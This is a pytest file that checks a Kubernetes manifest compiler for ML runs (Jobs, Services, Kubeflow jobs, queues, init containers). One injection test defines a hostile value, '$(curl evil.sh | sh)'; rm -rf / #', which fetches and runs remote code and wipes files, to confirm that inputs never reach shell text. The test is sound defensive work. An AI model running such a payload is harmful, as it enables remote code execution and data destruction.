"""Manifests compiled from run specs: every one valid for Kubernetes 1.30 (strict) or for our
Kubeflow schema, carrying what the spec asked for, and refusing what it cannot express."""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path
from typing import Any

import jsonschema
import kubernetes_validate
import pytest

from runners.base import GitCheckout, RunSpec
from runners.kubernetes.init_containers import CODE, FILE_SCRIPT, GIT_SCRIPT
from runners.kubernetes.manifests import (
    KIND,
    MANAGED,
    OPERATION,
    PROJECT,
    RUN_UUID,
    Manifest,
    ManifestError,
    Workload,
    compile_run,
    label_value,
    object_name,
    retries_allowed,
)
from runners.kubernetes.pods import PodOptions
from runners.kubernetes.queues import Queue, QueueError, parse_queues, pick_queue
from tests.runners.conftest import GitRemote

K8S_VERSION = "1.30.0"
KUBEFLOW_SCHEMA = json.loads((Path(__file__).parent / "kubeflow_schema.json").read_text())
UUID = "0f6c1f2e9c5b4c3a8d7e6f5a4b3c2d1e"
DEFAULT = Queue(name="default", namespace="default")
DNS_1123_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")


def valid(manifest: Manifest) -> dict[str, Any]:
    """The manifest's body after checking it: strict OpenAPI, or our Kubeflow schema."""
    body = manifest.body
    if body["apiVersion"] == "kubeflow.org/v1":
        jsonschema.validate(body, KUBEFLOW_SCHEMA)
        specs = next(v for k, v in body["spec"].items() if k.endswith("ReplicaSpecs"))
        for replica in specs.values():
            template = {
                "apiVersion": "v1",
                "kind": "PodTemplate",
                "metadata": {"name": body["metadata"]["name"]},
                "template": replica["template"],
            }
            kubernetes_validate.validate(template, K8S_VERSION, strict=True)
    else:
        kubernetes_validate.validate(body, K8S_VERSION, strict=True)
    return body


def make(run: dict[str, Any] | None = None, **fields: Any) -> RunSpec:
    component = {"run": run} if run is not None else {}
    component.update(fields.pop("component", {}))
    fields.setdefault("command", ["python", "train.py", "--lr", "0.1"])
    fields.setdefault("image", "python:3.11")
    fields.setdefault("name", "train")
    return RunSpec(uuid=UUID, project="mnist", component=component, **fields)


def compiled(spec: RunSpec, queue: Queue = DEFAULT, **options: Any) -> list[dict[str, Any]]:
    return [valid(m) for m in compile_run(spec, queue, PodOptions(**options))]


def pod_spec(body: dict[str, Any]) -> dict[str, Any]:
    return body["spec"]["template"]["spec"]


def container(body: dict[str, Any], name: str = "main") -> dict[str, Any]:
    return next(c for c in pod_spec(body)["containers"] if c["name"] == name)


def init(body: dict[str, Any], name: str) -> dict[str, Any]:
    return next(c for c in pod_spec(body)["initContainers"] if c["name"] == name)


FULL_JOB = {
    "kind": "job",
    "container": {
        "image": "ghcr.io/acme/trainer:1.2",
        "command": ["python", "train.py"],
        "args": ["--lr", "0.1"],
        "resources": {"requests": {"cpu": 2, "memory": "8Gi"}, "limits": {"nvidia.com/gpu": 1}},
        "env": [
            {"name": "MODE", "value": "full"},
            {"name": "API_KEY", "valueFrom": {"secretKeyRef": {"name": "keys", "key": "api"}}},
        ],
        "envFrom": [{"configMapRef": {"name": "settings"}}],
        "volumeMounts": [{"name": "data", "mountPath": "/data"}],
    },
    "environment": {
        "labels": {"team": "vision"},
        "annotations": {"owner": "ml@acme.dev"},
        "nodeSelector": {"pool": "gpu"},
        "tolerations": [{"key": "gpu", "operator": "Exists", "effect": "NoSchedule"}],
        "affinity": {
            "nodeAffinity": {
                "requiredDuringSchedulingIgnoredDuringExecution": {
                    "nodeSelectorTerms": [
                        {"matchExpressions": [{"key": "zone", "operator": "In", "values": ["a"]}]}
                    ]
                }
            }
        },
        "serviceAccountName": "trainer",
        "imagePullSecrets": ["registry"],
        "securityContext": {"runAsUser": 1000, "runAsNonRoot": True},
        "restartPolicy": "OnFailure",
    },
    "connections": ["s3-creds"],
    "volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": "datasets"}}],
    "init": [
        {"file": {"filename": "config.json", "content": '{"a": 1}', "chmod": "0600"}},
        {"git": {"url": "https://github.com/acme/tools"}, "connection": "github-creds"},
        {"container": {"name": "warmup", "image": "busybox:1.37", "command": ["true"]}},
    ],
    "sidecars": [{"name": "metrics", "image": "acme/metrics:1", "args": ["--port", "9100"]}],
}


def test_a_job_carries_its_container_resources_env_and_placement():
    [job] = compiled(make(FULL_JOB, env={"AXON_RUN_UUID": UUID, "MODE": "full"}))
    main, spec = container(job), pod_spec(job)

    assert (job["kind"], job["apiVersion"]) == ("Job", "batch/v1")
    assert main["image"] == "ghcr.io/acme/trainer:1.2"
    assert main["command"] == ["python", "train.py", "--lr", "0.1"] and "args" not in main
    assert main["resources"] == {
        "requests": {"cpu": "2", "memory": "8Gi"},
        "limits": {"nvidia.com/gpu": "1"},
    }
    assert {"name": "AXON_RUN_UUID", "value": UUID} in main["env"]
    assert {"name": "API_KEY", "valueFrom": {"secretKeyRef": {"name": "keys", "key": "api"}}} in (
        main["env"]
    )
    assert main["envFrom"] == [
        {"configMapRef": {"name": "settings"}},
        {"secretRef": {"name": "s3-creds"}},
    ]
    assert spec["nodeSelector"] == {"pool": "gpu"}
    assert spec["tolerations"][0]["key"] == "gpu"
    assert "nodeAffinity" in spec["affinity"]
    assert spec["serviceAccountName"] == "trainer"
    assert spec["imagePullSecrets"] == [{"name": "registry"}]
    assert spec["securityContext"] == {"runAsUser": 1000, "runAsNonRoot": True}
    assert spec["restartPolicy"] == "OnFailure"
    assert {"name": "data", "persistentVolumeClaim": {"claimName": "datasets"}} in spec["volumes"]


def test_labels_and_annotations_name_the_run_project_and_operation():
    spec = make(FULL_JOB, name="train resnet/50")
    [job] = compiled(spec)

    for metadata in (job["metadata"], job["spec"]["template"]["metadata"]):
        labels = metadata["labels"]
        assert labels[MANAGED] == "true" and labels[RUN_UUID] == UUID and labels[KIND] == "job"
        assert (labels[PROJECT], labels[OPERATION]) == ("mnist", "train-resnet-50")
        assert metadata["annotations"][OPERATION] == "train resnet/50"
    assert job["spec"]["template"]["metadata"]["labels"]["team"] == "vision"
    assert job["spec"]["template"]["metadata"]["annotations"]["owner"] == "ml@acme.dev"


def test_termination_becomes_backoff_limit_deadline_and_ttl():
    termination = {"maxRetries": 3, "timeout": 600, "ttl": 120}
    never = {**FULL_JOB, "environment": {"restartPolicy": "Never"}}
    [job] = compiled(make(never, component={"termination": termination}))

    assert job["spec"]["backoffLimit"] == 3
    assert job["spec"]["activeDeadlineSeconds"] == 600
    assert job["spec"]["ttlSecondsAfterFinished"] == 120


@pytest.mark.parametrize(
    ("policy", "max_retries", "backoff_limit"),
    [
        ("Never", 0, 0),
        ("Never", 2, 2),
        ("OnFailure", 0, 0),
        ("OnFailure", 1, 2),
        ("OnFailure", 3, 4),
    ],
)
def test_the_backoff_limit_allows_exactly_max_retries_under_each_restart_policy(
    policy: str, max_retries: int, backoff_limit: int
):
    # Under OnFailure the Job controller fails the Job when its restarts reach backoffLimit
    # (at the first restart when it is 0); under Never when its failed pods exceed it.
    run = {"kind": "job", "container": {"image": "acme/train:1"}}
    run["environment"] = {"restartPolicy": policy}
    [job] = compiled(make(run, component={"termination": {"maxRetries": max_retries}}))

    assert job["spec"]["backoffLimit"] == backoff_limit
    assert retries_allowed(job) == max_retries


def test_a_bare_spec_is_a_job_that_runs_once_and_never_restarts_in_place():
    [job] = compiled(make(timeout=2.5))

    assert job["metadata"]["name"] == f"axon-{UUID}"
    assert job["spec"]["backoffLimit"] == 0
    assert job["spec"]["activeDeadlineSeconds"] == 3
    assert "ttlSecondsAfterFinished" not in job["spec"]
    assert pod_spec(job)["restartPolicy"] == "Never"
    assert container(job)["command"] == ["python", "train.py", "--lr", "0.1"]
    assert "initContainers" not in pod_spec(job) and "volumes" not in pod_spec(job)


def test_a_container_with_only_args_keeps_its_image_entrypoint():
    run = {"kind": "job", "container": {"image": "acme/cli:1", "args": ["fit", "--epochs", "3"]}}
    [job] = compiled(make(run, command=["fit", "--epochs", "3"]))

    assert container(job)["args"] == ["fit", "--epochs", "3"]
    assert "command" not in container(job)


def test_the_event_commit_is_checked_out_by_an_init_container_with_secret_credentials():
    git = GitCheckout("https://github.com/acme/mnist.git", sha="a" * 40, ref="refs/heads/main")
    [job] = compiled(make(FULL_JOB, git=git), git_secret="git-credentials")
    checkout = init(job, "git-checkout")

    assert checkout["command"][:3] == ["sh", "-c", GIT_SCRIPT]
    assert checkout["command"][4:] == [CODE, "https://github.com/acme/mnist.git", "a" * 40]
    assert checkout["envFrom"] == [{"secretRef": {"name": "git-credentials"}}]
    assert container(job)["workingDir"] == CODE
    assert pod_spec(job)["initContainers"][0]["name"] == "git-checkout"
    mounts = {m["mountPath"] for m in container(job)["volumeMounts"]}
    assert {"/axon/context", "/data"} <= mounts


def test_init_steps_files_git_repos_and_containers_become_init_containers_in_order():
    [job] = compiled(make(FULL_JOB))
    names = [c["name"] for c in pod_spec(job)["initContainers"]]

    assert names == ["init-0-file", "init-1-git", "warmup", "metrics"]
    file = init(job, "init-0-file")
    assert file["command"][3:] == ["write-file", '{"a": 1}', "/axon/context/config.json", "0600"]
    repo = init(job, "init-1-git")
    assert repo["command"][4:6] == ["/axon/context/tools", "https://github.com/acme/tools"]
    assert repo["envFrom"] == [{"secretRef": {"name": "github-creds"}}]


def test_sidecars_of_a_job_are_native_sidecars_so_the_job_can_complete():
    [job] = compiled(make(FULL_JOB))
    sidecar = init(job, "metrics")

    assert sidecar["restartPolicy"] == "Always"
    assert [c["name"] for c in pod_spec(job)["containers"]] == ["main"]


@pytest.mark.parametrize("server", [(1, 20), (1, 28)])
def test_a_job_with_sidecars_is_refused_on_a_server_without_native_sidecars(server):
    # Before 1.29 the server drops an init container's restartPolicy without a word: the
    # sidecar would then have to exit before the main container could even start.
    with pytest.raises(ManifestError) as refused:
        compiled(make(FULL_JOB), server=server)

    assert str(refused.value) == (
        "run.sidecars: a pod that runs to completion needs native sidecars (Kubernetes 1.29 "
        f"or later) to end with its main container; this cluster runs Kubernetes 1.{server[1]}"
    )


def test_sidecars_are_native_from_1_29_and_a_services_are_plain_containers_on_any_version():
    [job] = compiled(make(FULL_JOB), server=(1, 29))
    service = {**FULL_JOB, "kind": "service", "ports": [9000]}
    service["environment"] = {**FULL_JOB["environment"], "restartPolicy": "Always"}
    deployment, _ = compiled(make(service), server=(1, 20))

    assert init(job, "metrics")["restartPolicy"] == "Always"
    assert [c["name"] for c in pod_spec(deployment)["containers"]] == ["main", "metrics"]
    assert "restartPolicy" not in container(deployment, "metrics")


def test_attacker_controlled_values_are_arguments_never_shell_text():
    hostile = "$(curl evil.sh | sh)'; rm -rf / #"
    git = GitCheckout(f"https://example.com/{hostile}.git", sha="", ref=hostile)
    run = {"kind": "job", "container": {"image": "python:3.11"}}
    run["init"] = [{"file": {"filename": "notes.txt", "content": hostile}}]
    [job] = compiled(make(run, git=git))

    for step in pod_spec(job)["initContainers"]:
        assert step["command"][2] in (GIT_SCRIPT, FILE_SCRIPT)
        assert hostile not in step["command"][2]
        assert any(hostile in argument for argument in step["command"][3:])


def test_the_checkout_script_checks_out_the_commit_asked_for(git_remote: GitRemote, tmp_path: Path):
    dest = tmp_path / "code"
    argv = ["sh", "-c", GIT_SCRIPT, "git-checkout", str(dest), git_remote.url, git_remote.first_sha]

    subprocess.run(argv, check=True, capture_output=True, text=True)

    head = subprocess.run(["git", "-C", str(dest), "rev-parse", "HEAD"], capture_output=True)
    assert head.stdout.decode().strip() == git_remote.first_sha
    assert (dest / "version.txt").read_text() == "one\n"


def test_the_file_script_writes_the_content_exactly(tmp_path: Path):
    content = "a 'quoted' \"value\" with $HOME and %s\nand a second line"
    dest = tmp_path / "deep" / "config.txt"

    subprocess.run(["sh", "-c", FILE_SCRIPT, "write-file", content, str(dest), "0600"], check=True)

    assert dest.read_text() == content
    assert dest.stat().st_mode & 0o777 == 0o600


def test_artifacts_are_copied_from_the_store_claim():
    run = {"kind": "job", "container": {"image": "python:3.11"}}
    run["init"] = [{"artifacts": {"files": ["models/best.pt"], "dirs": [["data/v2", "data"]]}}]
    [job] = compiled(make(run), artifacts_claim="artifacts-store")

    copy = init(job, "init-0-artifacts")
    assert copy["command"][3:] == ["copy", "/axon/context", "models/best.pt", "models/best.pt"] + [
        "data/v2",
        "data",
    ]
    claim = {"claimName": "artifacts-store", "readOnly": True}
    assert {"name": "axon-artifacts-store", "persistentVolumeClaim": claim} in pod_spec(job)[
        "volumes"
    ]


def test_a_service_is_a_deployment_and_a_service_with_its_ports():
    run = {"kind": "service", "container": {"image": "tensorflow/tensorflow:2.16"}}
    run.update(ports=[6006], replicas=2)
    deployment, service = compiled(make(run, command=["tensorboard", "--logdir", "/logs"]))

    assert (deployment["kind"], service["kind"]) == ("Deployment", "Service")
    assert deployment["spec"]["replicas"] == 2
    assert pod_spec(deployment)["restartPolicy"] == "Always"
    assert container(deployment)["ports"] == [{"containerPort": 6006}]
    selector = deployment["spec"]["selector"]["matchLabels"]
    assert selector.items() <= deployment["spec"]["template"]["metadata"]["labels"].items()
    assert service["spec"]["selector"] == selector
    assert service["spec"]["ports"] == [
        {"name": "port-6006", "port": 6006, "targetPort": 6006, "protocol": "TCP"}
    ]
    assert service["spec"]["type"] == "ClusterIP"


def test_a_service_without_ports_is_only_a_deployment_and_external_ones_get_a_balancer():
    run = {"kind": "service", "container": {"image": "acme/app:1"}}
    [deployment] = compiled(make(run))
    _, service = compiled(make({**run, "ports": [80], "isExternal": True}))

    assert deployment["kind"] == "Deployment"
    assert service["spec"]["type"] == "LoadBalancer"


def replica(image: str = "acme/train:1", **fields: Any) -> dict[str, Any]:
    return {"container": {"image": image, "command": ["python", "dist.py"]}, **fields}


def test_a_pytorchjob_has_a_master_and_workers_running_the_pytorch_container():
    run = {"kind": "pytorchjob", "master": replica(), "worker": replica(replicas=3)}
    run["cleanPodPolicy"] = "All"
    termination = {"maxRetries": 2, "timeout": 3600, "ttl": 60}
    [job] = compiled(make(run, component={"termination": termination}))
    specs = job["spec"]["pytorchReplicaSpecs"]

    assert (job["apiVersion"], job["kind"]) == ("kubeflow.org/v1", "PyTorchJob")
    assert (specs["Master"]["replicas"], specs["Worker"]["replicas"]) == (1, 3)
    master = specs["Master"]["template"]["spec"]["containers"][0]
    worker = specs["Worker"]["template"]["spec"]["containers"][0]
    assert master["name"] == worker["name"] == "pytorch"
    assert master["command"] == ["python", "train.py", "--lr", "0.1"]  # the compiled command
    assert worker["command"] == ["python", "dist.py"]
    assert job["spec"]["runPolicy"] == {
        "cleanPodPolicy": "All",
        "backoffLimit": 2,
        "activeDeadlineSeconds": 3600,
        "ttlSecondsAfterFinished": 60,
    }
    assert specs["Worker"]["template"]["metadata"]["labels"][RUN_UUID] == UUID


def test_a_tfjob_and_an_mpijob_match_the_kubeflow_schema():
    tf = {"kind": "tfjob", "chief": replica(), "ps": replica(replicas=2), "worker": replica()}
    tf["schedulingPolicy"] = {"minAvailable": 4, "queue": "research"}
    mpi = {"kind": "mpijob", "launcher": replica(), "worker": replica(replicas=4)}
    mpi["slotsPerWorker"] = 2
    mpi["worker"]["environment"] = {"restartPolicy": "OnFailure", "nodeSelector": {"gpu": "a100"}}

    [tfjob] = compiled(make(tf))
    [mpijob] = compiled(make(mpi))

    assert set(tfjob["spec"]["tfReplicaSpecs"]) == {"Chief", "PS", "Worker"}
    assert tfjob["spec"]["runPolicy"]["schedulingPolicy"] == {
        "minAvailable": 4,
        "queue": "research",
    }
    chief = tfjob["spec"]["tfReplicaSpecs"]["Chief"]["template"]["spec"]["containers"][0]
    assert chief["name"] == "tensorflow"
    worker = mpijob["spec"]["mpiReplicaSpecs"]["Worker"]
    assert mpijob["spec"]["slotsPerWorker"] == 2
    assert worker["restartPolicy"] == "OnFailure"
    assert worker["template"]["spec"]["nodeSelector"] == {"gpu": "a100"}


def test_a_queue_sets_the_namespace_and_defaults_that_the_spec_overrides():
    queues = parse_queues(
        json.dumps(
            {
                "gpu": {
                    "namespace": "training",
                    "concurrency": 2,
                    "resources": {"limits": {"nvidia.com/gpu": 1, "memory": "16Gi"}},
                    "nodeSelector": {"pool": "gpu", "zone": "a"},
                    "tolerations": [{"key": "dedicated", "operator": "Exists"}],
                    "priorityClassName": "research",
                    "imagePullSecrets": ["registry"],
                }
            }
        ),
        "default",
    )
    queue = pick_queue(queues, "eu-agent/gpu", "default", "default")
    [job] = compiled(make(FULL_JOB), queue)

    assert job["metadata"]["namespace"] == "training"
    assert container(job)["resources"]["limits"] == {"nvidia.com/gpu": "1", "memory": "16Gi"}
    assert container(job)["resources"]["requests"] == {"cpu": "2", "memory": "8Gi"}
    assert pod_spec(job)["nodeSelector"] == {"pool": "gpu", "zone": "a"}
    assert [t["key"] for t in pod_spec(job)["tolerations"]] == ["dedicated", "gpu"]
    assert pod_spec(job)["priorityClassName"] == "research"
    assert pod_spec(job)["imagePullSecrets"] == [{"name": "registry"}]
    assert job["metadata"]["labels"]["axon.dev/queue"] == "gpu"


def test_an_unknown_queue_is_refused_with_a_suggestion():
    queues = parse_queues({"gpu": {"concurrency": 1}, "cpu": {}}, "default")

    with pytest.raises(QueueError, match="no queue 'gpus'; did you mean 'gpu'"):
        pick_queue(queues, "gpus", "default", "default")
    assert pick_queue(queues, None, "default", "default").namespace == "default"


@pytest.mark.parametrize(
    ("config", "message"),
    [
        (
            {"gpu": {"concurency": 2}},
            "queues.gpu.concurency: unknown key; did you mean 'concurrency'",
        ),
        ({"gpu": {"concurrency": 0}}, "queues.gpu.concurrency: a whole number of at least 1"),
        ({"gpu": {"tolerations": {"key": "x"}}}, "queues.gpu.tolerations: expected a list"),
        ("{not json", "queues: not JSON"),
    ],
)
def test_a_malformed_queue_config_names_the_key(config: Any, message: str):
    with pytest.raises(QueueError, match=re.escape(message)):
        parse_queues(config, "default")


@pytest.mark.parametrize(
    ("run", "message"),
    [
        ({"kind": "dag", "operations": []}, "run.kind: 'dag' is not supported"),
        (
            {
                "kind": "job",
                "container": {"image": "a"},
                "init": [{"dockerfile": {"image": "a", "uid": 1000}}],
            },
            "run.init[0].dockerfile.uid: creating a user in the image is not supported yet",
        ),
        (
            {"kind": "job", "container": {"image": "a"}, "init": [{"paths": ["models"]}]},
            "run.init[0].paths: needs an artifacts store",
        ),
        (
            {
                "kind": "job",
                "container": {"image": "a"},
                "environment": {"restartPolicy": "Always"},
            },
            "run.environment.restartPolicy: 'Always' here; use Never or OnFailure",
        ),
        ({"kind": "job", "container": {}}, "run.container.image: required"),
        ({"kind": "pytorchjob"}, "run: a pytorchjob needs one of master, worker"),
    ],
)
def test_what_kubernetes_cannot_run_is_refused_naming_the_field(run: dict[str, Any], message: str):
    with pytest.raises(ManifestError, match=re.escape(message)):
        compile_run(make(run, image=""), DEFAULT, PodOptions())


@pytest.mark.parametrize(
    "run_uuid",
    [UUID, "8d2c4b6e-1f3a-4c5d-9e7f-0a1b2c3d4e5f", "Run_42/With.Odd chars", "x" * 80],
)
def test_object_names_are_dns_safe_stable_and_short_enough_for_pod_names(run_uuid: str):
    name = object_name(run_uuid)

    assert DNS_1123_LABEL.match(name) and name[0].isalpha()
    assert len(name) <= 45 and name == object_name(run_uuid)
    assert len(f"{name}-launcher-0") <= 63


def test_label_values_are_trimmed_to_what_kubernetes_accepts():
    assert label_value("-feature/new model (v2)-") == "feature-new-model-v2"
    assert len(label_value("x" * 100)) == 63


def test_external_ids_name_the_namespace_kind_and_object():
    workload = Workload.parse("training/pytorchjobs/axon-abc")

    assert (workload.namespace, workload.plural, workload.name) == (
        "training",
        "pytorchjobs",
        "axon-abc",
    )
    assert workload.kind == "pytorchjob" and workload.external_id == "training/pytorchjobs/axon-abc"
    with pytest.raises(ValueError, match="is not <namespace>/<plural>/<name>"):
        Workload.parse("jobs/axon-abc")


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("spec", "pytorchReplicaSpecs", "Master", "replicas"), 2),
        (("spec", "pytorchReplicaSpecs", "Chief"), {"replicas": 1, "template": {}}),
        (("spec", "pytorchReplicaSpecs", "Worker", "template", "spec", "restartPolicy"), "Never"),
        (("spec", "runPolicy", "cleanPodPolicy"), "Sometimes"),
        (("spec", "tfReplicaSpecs"), {}),
    ],
)
def test_the_kubeflow_schema_refuses_what_the_operator_would(path: tuple[str, ...], value: Any):
    run = {"kind": "pytorchjob", "master": replica(), "worker": replica()}
    [job] = compiled(make(run))
    target = job
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value

    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(job, KUBEFLOW_SCHEMA)
